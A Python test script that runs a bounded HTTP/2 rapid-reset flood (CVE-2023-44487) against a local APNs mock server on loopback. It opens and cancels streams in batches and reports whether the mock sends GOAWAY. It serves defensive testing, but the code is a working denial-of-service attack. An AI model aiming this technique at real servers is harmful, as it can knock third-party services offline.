#!/usr/bin/env python3
# Copyright (c) 2026 the authors of this package. Licensed under the Apache License 2.0 (LICENSE).
# SPDX-License-Identifier: Apache-2.0
"""A rapid-reset flood (CVE-2023-44487) against a running `apnskit mock serve`, on loopback
only and bounded: one TLS connection (a client certificate, so the mock offers its full
stream limit), then batches of streams each opened with HEADERS (no END_STREAM: the request is
never finished, so never answered) and at once reset with RST_STREAM(CANCEL), until the mock
ends the connection or MAX_STREAMS streams or 30 seconds have gone by.

Usage: rapid_reset_flood.py PORT CA_FILE CLIENT_PEM [MAX_STREAMS]
Prints one JSON line: {"streams_reset", "goaway", "goaway_code", "last_stream_id", "seconds"}
(goaway null when the mock never sent one). Written with Python's h2, not our code.
"""

import json
import select
import socket
import ssl
import sys
import time

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions

PORT, CA, CLIENT = int(sys.argv[1]), sys.argv[2], sys.argv[3]
MAX_STREAMS = int(sys.argv[4]) if len(sys.argv) > 4 else 20000
BATCH = 100

context = ssl.create_default_context(cafile=CA)
context.load_cert_chain(CLIENT)
context.set_alpn_protocols(["h2"])
started = time.monotonic()
reset, goaway = 0, None
with socket.create_connection(("127.0.0.1", PORT), timeout=10) as raw, context.wrap_socket(raw, server_hostname="127.0.0.1") as tls:
    connection = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    connection.initiate_connection()
    tls.sendall(connection.data_to_send())
    while goaway is None and reset < MAX_STREAMS and time.monotonic() - started < 30:
        try:
            for _ in range(BATCH):
                stream = connection.get_next_available_stream_id()
                connection.send_headers(stream, [(":method", "POST"), (":scheme", "https"), (":authority", f"127.0.0.1:{PORT}"),
                                                 (":path", "/3/device/" + "ab" * 32), ("apns-topic", "com.example.app")])
                connection.reset_stream(stream, h2.errors.ErrorCodes.CANCEL)
                reset += 1
            tls.sendall(connection.data_to_send())
        except (BrokenPipeError, ConnectionResetError, ssl.SSLError, h2.exceptions.ProtocolError):
            break
        try:
            # Whatever the mock has sent by now (answers, SETTINGS, a GOAWAY), without waiting.
            while tls.pending() or select.select([tls], [], [], 0)[0]:
                chunk = tls.recv(65536)
                if not chunk:
                    raise ConnectionResetError
                for event in connection.receive_data(chunk):
                    if isinstance(event, h2.events.ConnectionTerminated):
                        goaway = event
                tls.sendall(connection.data_to_send())
        except (ConnectionResetError, ssl.SSLError, h2.exceptions.ProtocolError, socket.timeout):
            break
print(json.dumps({"streams_reset": reset, "goaway": goaway is not None,
                  "goaway_code": goaway.error_code.name if goaway is not None and hasattr(goaway.error_code, "name") else (goaway.error_code if goaway else None),
                  "last_stream_id": goaway.last_stream_id if goaway else None, "seconds": round(time.monotonic() - started, 2)}))
